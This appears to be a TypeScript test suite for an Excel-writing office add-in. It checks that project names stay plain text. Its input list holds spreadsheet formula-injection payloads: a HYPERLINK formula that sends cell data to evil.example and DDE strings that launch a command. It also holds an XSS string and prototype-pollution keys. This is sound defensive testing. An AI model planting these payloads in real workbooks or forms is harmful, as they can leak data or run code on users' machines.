import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { policyArea12 } from '../../samples/policy-area-12';
import { layOut } from '../../samples/lay-out';
import { snapshotToXlsx } from '../../samples/snapshot-to-xlsx';
import { createOfficeHost } from '../../src/hosts/office/office-host';
import { readXlsx } from '../../src/hosts/xlsx/read-xlsx';
import { writeXlsx } from '../../src/hosts/xlsx/write-xlsx';
import { review } from '../../src/review';
import { plan } from '../../src/tabs/plan';
import { openExcel } from '../hosts/office/excel';

/** Texts that somebody could do harm with, were they anything but text. */
const hostile = [
  '=HYPERLINK("https://evil.example/?"&A1,"開く")',
  '=cmd|"/c calc"!A1',
  '@SUM(1+1)*cmd|"/c calc"!A1',
  '+1+1',
  '-1+1',
  "'=1+1",
  '\\1,000',
  '＝１＋１',
  '<img src=x onerror=alert(1)>',
  '&lt;script&gt;',
  '__proto__',
  'constructor',
  'toString',
  '㋿6年',
];

/** The sample, one of whose projects bears the text as its name. */
function named(text: string) {
  const [first, ...others] = policyArea12.cardGroups;
  if (!first) throw new Error('the sample has no card');
  const [card, ...cards] = first.cards;
  if (!card) throw new Error('the sample has no card');
  const cardGroups = [{ ...first, cards: [{ ...card, name: text }, ...cards] }, ...others];
  return layOut({ ...policyArea12, cardGroups, list: null }).snapshot;
}

describe.each(hostile)('the name %s', (text) => {
  const snapshot = named(text);
  const planned = plan(review(snapshot), '令和7年6月1日');

  test('stays text in Excel, wherever it is written', async () => {
    const { workbook, session } = openExcel(snapshot);
    await createOfficeHost().write(planned);
    const list = workbook.sheet('事務事業一覧').cells.within({ top: 0, left: 0, bottom: 99, right: 30 });
    const found = list.filter(({ cell }) => cell.value === text);
    expect(found.length).toBeGreaterThan(0);
    expect(found.every(({ cell }) => cell.formula === null)).toBe(true);
    expect(session.failures).toEqual([]);
  });

  test('stays text in a file', () => {
    const { bytes } = writeXlsx(snapshotToXlsx(snapshot), planned);
    const list = readXlsx(bytes, '').sheets.find(({ name }) => name === '事務事業一覧');
    const found = list?.cells.filter(({ value }) => value === text) ?? [];
    expect(found.length).toBeGreaterThan(0);
    expect(found.every(({ formula }) => !formula)).toBe(true);
  });
});

test('links that are written lead into the workbook, or to https', () => {
  const { tabs } = plan(review(layOut(policyArea12).snapshot), '令和7年6月1日');
  const urls = tabs.flatMap(({ rows }) => rows.flatMap(({ cells }) => cells.flatMap((cell) => cell?.url ?? [])));
  expect(urls.filter((url) => !url.startsWith('https://'))).toEqual([]);
});

test('nothing of the pane makes markup or code of a text', () => {
  const root = join(__dirname, '../../src');
  const files = readdirSync(root, { recursive: true, encoding: 'utf8' }).filter((file) => /\.tsx?$/.test(file));
  const risky =
    /\b(?:innerHTML|outerHTML|insertAdjacentHTML|dangerouslySetInnerHTML|document\.write|eval|new Function)\b/;
  expect(files.length).toBeGreaterThan(100);
  expect(files.filter((file) => risky.test(readFileSync(join(root, file), 'utf8')))).toEqual([]);
});
